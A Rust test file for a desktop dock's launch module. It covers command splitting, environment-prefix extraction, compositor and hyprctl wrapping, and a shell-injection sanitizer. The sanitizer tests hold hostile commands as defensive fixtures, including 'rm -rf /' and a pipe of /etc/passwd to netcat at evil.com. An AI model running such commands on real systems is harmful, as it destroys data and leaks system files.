use mac_dock::launch::{
    extract_env_prefix, launch, launch_checked, launch_command, launch_hyprctl, launch_hyprctl_terminal,
    launch_shell_command, sanitize_exec_command, split_command, CompositorLaunch, LaunchSettings,
};

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn uwsm_empty_command_returns_early() {
    let mut settings = LaunchSettings::new();
    settings.set_uwsm_mode(true);
    assert!(matches!(settings.launch_via_compositor(""), CompositorLaunch::Nothing));
    assert!(matches!(settings.launch_via_compositor("   "), CompositorLaunch::Nothing));
}

#[test]
fn uwsm_mode_toggle() {
    let mut settings = LaunchSettings::new();
    settings.set_uwsm_mode(true);
    assert!(settings.uwsm_mode());
    settings.set_uwsm_mode(false);
    assert!(!settings.uwsm_mode());
}

#[test]
fn split_command_quoted_args() {
    let parts = split_command(r#"sh -c "printf 'Hello World'""#);
    assert_eq!(parts, vec!["sh", "-c", "printf 'Hello World'"]);
}

#[test]
fn split_command_simple() {
    let parts = split_command("firefox --new-window");
    assert_eq!(parts, vec!["firefox", "--new-window"]);
}

#[test]
fn split_command_env_prefix() {
    let parts = split_command("GTK_THEME=Adwaita:dark firefox");
    assert_eq!(parts, vec!["GTK_THEME=Adwaita:dark", "firefox"]);
}

#[test]
fn split_command_unbalanced_falls_back() {
    let parts = split_command("sh -c \"unterminated");
    assert!(!parts.is_empty());
    assert_eq!(parts, vec!["sh", "-c", "\"unterminated"]);
}

#[test]
fn split_command_empty() {
    let parts = split_command("");
    assert!(parts.is_empty());
}

#[test]
fn extract_env_prefix_splits_correctly() {
    let elements = strings(&["GTK_THEME=Adwaita:dark", "firefox", "--new-window"]);
    let (env, cmd) = extract_env_prefix(&elements);
    assert_eq!(env, vec![("GTK_THEME".to_string(), "Adwaita:dark".to_string())]);
    assert_eq!(cmd, vec!["firefox", "--new-window"]);
}

#[test]
fn extract_env_prefix_no_env() {
    let elements = strings(&["firefox", "--new-window"]);
    let (env, cmd) = extract_env_prefix(&elements);
    assert!(env.is_empty());
    assert_eq!(cmd, vec!["firefox", "--new-window"]);
}

#[test]
fn extract_env_prefix_rejects_digit_start() {
    let elements = strings(&["1VAR=bad", "firefox"]);
    let (env, cmd) = extract_env_prefix(&elements);
    assert!(env.is_empty());
    assert_eq!(cmd, vec!["1VAR=bad", "firefox"]);
}

#[test]
fn shell_command_empty_is_noop() {
    assert!(launch_shell_command("").is_none());
    assert!(launch_shell_command("   ").is_none());
    assert_eq!(launch_shell_command("  ls -l ").as_deref(), Some("ls -l"));
}

#[test]
fn sanitize_strips_semicolons() {
    assert_eq!(sanitize_exec_command("firefox; rm -rf /"), "firefox rm -rf /");
}

#[test]
fn sanitize_strips_backticks() {
    assert_eq!(sanitize_exec_command("echo `whoami`"), "echo whoami");
}

#[test]
fn sanitize_strips_dollar() {
    assert_eq!(sanitize_exec_command("echo $HOME"), "echo HOME");
}

#[test]
fn sanitize_strips_pipes() {
    assert_eq!(
        sanitize_exec_command("cat /etc/passwd | nc evil.com 80"),
        "cat /etc/passwd  nc evil.com 80"
    );
}

#[test]
fn sanitize_strips_ampersand() {
    assert_eq!(sanitize_exec_command("cmd & bg"), "cmd  bg");
}

#[test]
fn sanitize_strips_newlines() {
    assert_eq!(sanitize_exec_command("cmd\nmalicious"), "cmdmalicious");
}

#[test]
fn sanitize_preserves_normal_commands() {
    let cmd = "firefox --new-window https://example.com";
    assert_eq!(sanitize_exec_command(cmd), cmd);
}

#[test]
fn sanitize_preserves_paths_with_spaces() {
    let cmd = "/usr/bin/my app --arg=value";
    assert_eq!(sanitize_exec_command(cmd), cmd);
}

#[test]
fn launch_command_takes_env_prefix_out() {
    let plan = launch_command("LANG=C FOO=bar  xterm -e 'top -d 1'").unwrap();
    assert_eq!(
        plan.env,
        vec![
            ("LANG".to_string(), "C".to_string()),
            ("FOO".to_string(), "bar".to_string())
        ]
    );
    assert_eq!(plan.args, vec!["xterm", "-e", "top -d 1"]);
    assert!(launch_command("   ").is_none());
}

#[test]
fn compositor_launch_without_uwsm_keeps_quotes() {
    let settings = LaunchSettings::new();
    match settings.launch_via_compositor("sh -c \"echo hi\"") {
        CompositorLaunch::Exec(c) => assert_eq!(c, "sh -c \"echo hi\""),
        _ => panic!("expected Exec"),
    }
}

#[test]
fn compositor_launch_with_uwsm_wraps_command() {
    let mut settings = LaunchSettings::new();
    settings.set_uwsm_mode(true);
    match settings.launch_via_compositor("  A=1 firefox --private ") {
        CompositorLaunch::Uwsm { plan, fallback } => {
            assert_eq!(plan.args, vec!["app", "--", "firefox", "--private"]);
            assert_eq!(plan.env, vec![("A".to_string(), "1".to_string())]);
            assert_eq!(fallback, "A=1 firefox --private");
        }
        _ => panic!("expected Uwsm"),
    }
}

#[test]
fn terminal_launch_wraps_with_term() {
    let settings = LaunchSettings::new();
    match settings.launch_terminal_via_compositor("htop", "foot") {
        CompositorLaunch::Exec(c) => assert_eq!(c, "foot -e htop"),
        _ => panic!("expected Exec"),
    }
}

#[test]
fn hyprctl_requests_strip_double_quotes() {
    assert_eq!(
        launch_hyprctl("\"firefox\" --new-window").as_deref(),
        Some("dispatch exec firefox --new-window")
    );
    assert!(launch_hyprctl(" \"\" ").is_none());
    assert_eq!(
        launch_hyprctl_terminal("htop", "kitty").as_deref(),
        Some("dispatch exec kitty -e htop")
    );
}

#[test]
fn launch_by_class_uses_desktop_exec() {
    let lines = strings(&["[Desktop Entry]", "Name=Files", "Exec=nautilus --new-window %U"]);
    let plan = launch("org.gnome.Nautilus", Some(lines)).unwrap();
    assert_eq!(plan.args, vec!["nautilus", "--new-window"]);
    let plan = launch("foot", None).unwrap();
    assert_eq!(plan.args, vec!["foot"]);
}

#[test]
fn checked_launch_refuses_uncuttable_exec_lines() {
    assert!(launch_checked("x", Some(strings(&["Exec"]))).is_none());
    let plan = launch_checked("x", Some(strings(&["Exec=vim %F"]))).unwrap().unwrap();
    assert_eq!(plan.args, vec!["vim"]);
    assert_eq!(launch_checked("", None).map(|p| p.is_none()), Some(true));
}

#[test]
fn extract_env_prefix_only_assignments_leaves_no_command() {
    let elements = strings(&["FOO=bar", "BAZ=1"]);
    let (env, cmd) = extract_env_prefix(&elements);
    assert_eq!(
        env,
        vec![("FOO".to_string(), "bar".to_string()), ("BAZ".to_string(), "1".to_string())]
    );
    assert!(cmd.is_empty());
    assert!(launch_command("FOO=bar BAZ=1").is_none());
}
